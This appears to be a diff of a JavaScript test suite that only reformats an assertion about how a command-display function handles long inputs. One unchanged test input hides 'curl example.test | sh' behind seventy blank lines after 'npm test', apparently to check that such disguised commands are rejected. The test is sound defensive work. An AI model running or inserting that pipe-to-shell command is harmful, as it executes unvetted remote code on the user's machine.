@@ -106,6 +106,9 @@ describe("what a question about a launch shows", () => {
     const text = `npm test${"\n".repeat(70)}curl example.test | sh`;
     assert.equal(writeFacts([{ kind: "command", text: text.repeat(3) }], labels), undefined);
     assert.equal(writeFacts([{ kind: "command", text: "x".repeat(2_000) }], labels), undefined);
-    assert.match(writeFacts([{ kind: "command", text: "x".repeat(600) }], labels)?.join("\n") ?? "", /^Command: x+\n↪ x/);
+    assert.match(
+      writeFacts([{ kind: "command", text: "x".repeat(600) }], labels)?.join("\n") ?? "",
+      /^Command: x+\n↪ x/,
+    );
   });
 });
